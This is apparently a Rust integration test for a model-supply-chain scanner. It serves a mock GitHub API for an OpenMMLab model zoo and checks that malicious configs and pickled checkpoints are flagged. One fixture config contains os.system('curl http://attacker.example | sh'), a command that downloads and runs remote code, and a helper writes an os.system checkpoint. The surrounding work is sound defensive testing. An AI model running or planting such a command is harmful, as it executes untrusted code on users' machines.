//! `scan mmlab:mmdet/<model>`: the model-zoo name is found in the package repository's
//! metafiles (served in GitHub's API shapes from 127.0.0.1), the snapshot holds the model's
//! config, the bases it runs and its metafile (not the rest of the repository), and the
//! checkpoint is read from its URL by its directory and pickle only.

mod common;
mod remote_support;
#[path = "../../trustscan-remote/tests/support/mod.rs"]
mod support;

use std::fs;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use remote_support::{
    DiskFile, assert_schema_valid, dirs_of, files_of, split, trustscan, write_os_system_checkpoint,
};
use serde_json::{Value, json};
use support::Server;

const COMMIT: &str = "89abcdef0123456789abcdef0123456789abcdef";

fn write(root: &Path, rel: &str, text: &str) {
    let p = root.join(rel);
    fs::create_dir_all(p.parent().unwrap()).unwrap();
    fs::write(p, text).unwrap();
}

/// GitHub's API for `open-mmlab/mmdetection` over `repo`, and the checkpoint host under
/// `/download/` (a different path of the same server: tokens must not go there, but the
/// test server has one origin, so that is checked by the client's own tests).
fn github(repo: PathBuf, weights: PathBuf) -> Server {
    let repo = Arc::new(repo);
    Server::start(move |req, conn| {
        let (path, _) = split(req);
        let api = "/repos/open-mmlab/mmdetection";
        if path == api {
            return conn.respond(
                200,
                &[],
                json!({"default_branch": "main"}).to_string().as_bytes(),
            );
        }
        if path == format!("{api}/commits/main") || path == format!("{api}/commits/{COMMIT}") {
            return conn.respond(200, &[], json!({"sha": COMMIT}).to_string().as_bytes());
        }
        if path == format!("{api}/git/trees/{COMMIT}") {
            // Listed when asked: the test writes the repository after starting the server.
            let files = files_of(&repo);
            let mut tree: Vec<Value> = dirs_of(&files)
                .iter()
                .map(|d| json!({"path": d, "mode": "040000", "type": "tree", "sha": "t"}))
                .collect();
            tree.extend(files.iter().map(|(p, size)| {
                json!({"path": p, "mode": "100644", "type": "blob", "sha": "b", "size": size})
            }));
            let body = json!({"sha": COMMIT, "tree": tree, "truncated": false});
            return conn.respond(200, &[], body.to_string().as_bytes());
        }
        if let Some(rel) = path.strip_prefix(&format!("/open-mmlab/mmdetection/raw/{COMMIT}/")) {
            let f = repo.join(rel);
            if f.is_file() {
                return conn.serve(req, &DiskFile(f), true, &[]);
            }
        }
        if path == "/download/rtmdet_tiny_demo-0123abcd.pth" {
            return conn.serve(req, &DiskFile(weights.clone()), true, &[]);
        }
        conn.respond(404, &[], b"{\"message\": \"Not Found\"}")
    })
}

#[test]
fn a_model_zoo_name_scans_its_config_chain_and_checkpoint() {
    let dir = tempfile::tempdir().unwrap();
    let repo = dir.path().join("repo");
    let weights = dir.path().join("weights.pth");
    // A 50 MB checkpoint whose pickle calls os.system, written sparse.
    write_os_system_checkpoint(&weights, &[50 << 20], false);
    let server = github(repo.clone(), weights);
    let url = server.url("/download/rtmdet_tiny_demo-0123abcd.pth");
    write(
        &repo,
        "model-index.yml",
        "Import:\n  - configs/atss/metafile.yml\n  - configs/rtmdet/metafile.yml\n",
    );
    write(
        &repo,
        "configs/atss/metafile.yml",
        "Models:\n  - Name: atss_r50_demo\n    Config: configs/atss/atss_r50_demo.py\n",
    );
    write(
        &repo,
        "configs/atss/atss_r50_demo.py",
        "model = dict(type='ATSS')\n",
    );
    write(
        &repo,
        "configs/rtmdet/metafile.yml",
        &format!(
            "Models:\n  - Name: rtmdet_tiny_demo\n    Config: configs/rtmdet/rtmdet_tiny_demo.py\n    Weights: {url}\n"
        ),
    );
    write(
        &repo,
        "configs/rtmdet/rtmdet_tiny_demo.py",
        "_base_ = ['./rtmdet_base_demo.py']\nmodel = dict(type='RTMDet')\n",
    );
    write(
        &repo,
        "configs/rtmdet/rtmdet_base_demo.py",
        "_base_ = ['../_base_/default_runtime.py']\nimport os\nos.system('curl http://attacker.example | sh')\nmodel = dict(type='RTMDet')\n",
    );
    write(
        &repo,
        "configs/_base_/default_runtime.py",
        "default_scope = 'mmdet'\n",
    );
    write(&repo, "configs/_base_/unused.py", "x = 1\n");
    write(&repo, "mmdet/apis/inference.py", "import torch\n");

    let cache = tempfile::tempdir().unwrap();
    let args = [
        "scan",
        "mmlab:mmdet/rtmdet_tiny_demo",
        "--endpoint",
        &server.origin(),
        "--remote-cache",
        cache.path().to_str().unwrap(),
        "--format",
        "json",
    ];
    let (code, out, err) = trustscan(&args, &[]);
    assert_eq!(code, 4, "{err}\n{out}");
    let v: Value = serde_json::from_str(&out).unwrap();
    let snap = &v["plan"]["snapshot"];
    assert_eq!(snap["layout"], "openmmlab-model-zoo");
    assert_eq!(snap["commit"], COMMIT);
    assert_eq!(
        snap["model"]["config"],
        "configs/rtmdet/rtmdet_tiny_demo.py"
    );
    assert_eq!(snap["model"]["weights"][0]["url"], url.as_str());
    // The config chain, the metafile and the checkpoint: nothing else of the repository.
    assert_eq!(snap["files"], 5, "{snap}");
    // One plan: Config.fromfile of the model's config, running its bases first.
    let apis = v["plan"]["apis"].as_array().unwrap();
    assert_eq!(apis.len(), 1, "{}", v["plan"]["apis"]);
    let executed: Vec<&str> = apis[0]["steps"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|s| s["kind"] == "execute-file")
        .map(|s| s["subject"]["path"].as_str().unwrap())
        .collect();
    assert_eq!(
        executed,
        [
            "configs/_base_/default_runtime.py",
            "configs/rtmdet/rtmdet_base_demo.py",
            "configs/rtmdet/rtmdet_tiny_demo.py"
        ]
    );
    // The os.system in a base config runs at load.
    let findings = v["code"]["findings"].as_array().unwrap();
    assert!(
        findings.iter().any(
            |f| f["location"]["file"] == "configs/rtmdet/rtmdet_base_demo.py"
                && f["reachability"] == "runs-at-load"
        ),
        "{findings:?}"
    );
    // The checkpoint: dangerous, loaded by the plan's step for its URL, 50 MB read by kilobytes.
    let ckpt = v["payloads"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["path"] == "checkpoints/rtmdet_tiny_demo-0123abcd.pth")
        .unwrap_or_else(|| panic!("{}", v["payloads"]));
    assert_eq!(ckpt["verdict"], "dangerous");
    assert_eq!(ckpt["reachability"], "runs-at-load");
    assert!(
        snap["remote"]["bytes_transferred"].as_u64().unwrap() < 200_000,
        "{snap}"
    );

    // The report with its `model` block matches the published schema.
    assert_schema_valid(&out, "zoo-scan.json");

    // Offline, from the cache, the same result.
    drop(server);
    let (code2, out2, err2) = trustscan(
        &[
            "scan",
            "mmlab:mmdet/rtmdet_tiny_demo",
            "--offline",
            "--remote-cache",
            cache.path().to_str().unwrap(),
            "--format",
            "json",
        ],
        &[],
    );
    assert_eq!(code2, 4, "{err2}");
    let v2: Value = serde_json::from_str(&out2).unwrap();
    assert_eq!(v2["payloads"], v["payloads"]);
    assert_eq!(v2["code"], v["code"]);
}

#[test]
fn unknown_names_and_packages_are_clear_errors() {
    let dir = tempfile::tempdir().unwrap();
    let repo = dir.path().join("repo");
    write(
        &repo,
        "model-index.yml",
        "Import:\n  - configs/rtmdet/metafile.yml\n",
    );
    write(
        &repo,
        "configs/rtmdet/metafile.yml",
        "Models:\n  - Name: rtmdet_tiny_8xb32-300e_coco\n    Config: configs/rtmdet/a.py\n  - Name: rtmdet_s_8xb32-300e_coco\n    Config: configs/rtmdet/b.py\n",
    );
    let server = github(repo, dir.path().join("none"));
    let cache = tempfile::tempdir().unwrap();
    let (code, _, err) = trustscan(
        &[
            "scan",
            "mmlab:mmdet/rtmdet_tiny",
            "--endpoint",
            &server.origin(),
            "--remote-cache",
            cache.path().to_str().unwrap(),
        ],
        &[],
    );
    assert_eq!(code, 2);
    assert!(
        err.contains("no model named \"rtmdet_tiny\"")
            && err.contains("rtmdet_tiny_8xb32-300e_coco"),
        "{err}"
    );
    let (code, _, err) = trustscan(&["scan", "mmlab:mmnothing/x"], &[]);
    assert_eq!(code, 2);
    assert!(
        err.contains("not an OpenMMLab package") && err.contains("mmdet"),
        "{err}"
    );
}
